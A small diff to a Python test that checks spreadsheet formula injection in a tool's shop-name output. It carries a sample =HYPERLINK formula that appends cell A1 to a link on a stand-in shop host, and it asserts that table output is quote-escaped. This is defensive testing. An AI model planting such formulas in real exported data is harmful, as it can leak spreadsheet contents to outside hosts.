@@ -52,7 +52,7 @@ def test_names_of_shops_harm_no_reader(form: str, run: Run, monkeypatch: pytest.
         assert any(row["name"].startswith("'=HYPERLINK") for row in rows)
     elif form != "table":
         found = json.loads(out) if form == "json" else [json.loads(line) for line in out.splitlines()]
-        names = [finding["name"] for finding in found if "HYPERLINK" in finding.get("name", "")]
+        names = [finding["name"] for finding in found if "HYPERLINK" in str(finding.get("name"))]
         assert names == ['=HYPERLINK("https://shop.example?q="&A1,"Sale")']
 
 
